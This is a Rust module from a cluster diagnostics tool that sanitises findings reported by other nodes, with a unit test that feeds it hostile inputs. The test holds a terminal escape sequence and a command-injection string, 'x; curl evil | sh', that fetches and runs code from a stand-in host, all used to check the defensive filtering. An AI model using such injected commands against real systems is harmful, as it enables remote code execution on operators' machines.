//! Findings of the nodes of a cluster.

use doctor::{Finding, Severity, table};
use node_api::{Source, Unanswered};
use types::printable;

/// The most that one node reports. The table has fewer checks, and each caps its findings.
const MAX_FINDINGS: usize = 1000;
/// The most that one finding of another node names.
const MAX_PEERS: usize = 256;
/// The longest id of a check.
const MAX_ID: usize = 40;

/// Unexplained findings of one node.
#[derive(Clone, Debug)]
pub(super) struct Answer {
    pub node: String,
    /// Whether this program read them without another node's help. Names prove nothing: others choose theirs.
    pub is_own: bool,
    pub causes: Vec<Finding>,
}

/// Findings of all nodes, and the nodes that did not respond.
#[derive(Clone, Debug)]
pub(super) struct Answers {
    pub source: Source,
    pub answered: Vec<Answer>,
    pub unanswered: Vec<Unanswered>,
}

impl Answer {
    /// Takes another node's findings as data: the check, the severity and the names of the peers. A node that
    /// lies must not choose a text or a command that an operator reads here, so both are this program's.
    pub(super) fn reported(
        node: String,
        findings: impl IntoIterator<Item = (String, Severity, Vec<String>)>,
    ) -> Answer {
        let causes = findings
            .into_iter()
            .take(MAX_FINDINGS)
            .map(|(check, severity, peers)| reported(&check, severity, peers))
            .collect();
        Answer { node, is_own: false, causes }
    }
}

fn reported(check: &str, severity: Severity, mut peers: Vec<String>) -> Finding {
    let is_id = !check.is_empty()
        && check.len() <= MAX_ID
        && check
            .bytes()
            .all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-');
    let check = if is_id { check } else { "unreadable" };
    let title = table::checks()
        .find(|known| known.id == check)
        .map_or("a check that this version of flannelctl does not have", |known| known.title);
    let why = "the doctor of the node shows the cause and the remedy";
    peers.truncate(MAX_PEERS);
    for peer in &mut peers {
        *peer = printable::value(peer).into_owned();
    }
    let mut finding = Finding::new(check, severity, "", title, why).run("flannelctl doctor");
    finding.peers = peers;
    finding
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn of_another_nodes_finding_only_data_is_taken() {
        let told = [("clock", "n2\u{1b}[2J"), ("curl-evil", "n3"), ("x; curl evil | sh", "")];
        let told = told
            .map(|(check, peer)| (check.to_owned(), Severity::Broken, vec![peer.to_owned(); 300]));
        let Answer { causes, .. } = Answer::reported("n1".to_owned(), told);
        let ids: Vec<&str> = causes.iter().map(|one| one.check.as_str()).collect();
        assert_eq!(ids, ["clock", "curl-evil", "unreadable"]);
        for finding in &causes {
            assert_eq!(finding.remedy.commands, ["flannelctl doctor"]);
            assert!(!finding.what.contains("evil") && !finding.what.is_empty());
            assert_eq!(finding.peers.len(), MAX_PEERS);
        }
        assert!(!causes[0].peers[0].contains('\u{1b}'));
        let endless = std::iter::repeat(("mtu".to_owned(), Severity::Risk, Vec::new()));
        assert_eq!(Answer::reported("n1".to_owned(), endless).causes.len(), MAX_FINDINGS);
    }
}
